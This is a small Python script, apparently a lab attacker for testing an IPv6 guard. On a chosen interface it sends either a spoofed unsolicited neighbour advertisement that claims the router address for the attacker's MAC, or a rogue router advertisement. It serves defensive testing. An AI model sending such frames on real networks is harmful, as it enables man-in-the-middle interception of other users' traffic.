#!/usr/bin/env python3
"""The lab's IPv6 attacker: sends one frame built as the IPv6 demo builds
it, from the attacker fe80::66 (02:77:06:00:00:66), on an interface.

  ipv6guard_send.py IFACE na   a neighbour advertisement: fe80::1 is at the
                               attacker's MAC (unsolicited, override)
  ipv6guard_send.py IFACE ra   a router advertisement of the attacker,
                               prefix fd77:66::/64
"""
import importlib.util
import os
import socket
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
_spec = importlib.util.spec_from_file_location("ipv6_demo", os.path.join(HERE, "../../examples/ipv6-make-demo.py"))
demo = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(demo)


def main():
    iface, kind = sys.argv[1], sys.argv[2]
    if kind == "na":
        frame = demo.neighbour_advert(demo.ROGUE_MAC, demo.ROGUE_IP, demo.ROUTER_IP, demo.ROGUE_MAC)
    elif kind == "ra":
        frame = demo.router_advert(demo.ROGUE_MAC, demo.ROGUE_IP, "fd77:66::")
    else:
        sys.exit("unknown frame kind: " + kind)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((iface, 0))
        sock.send(frame)


if __name__ == "__main__":
    main()
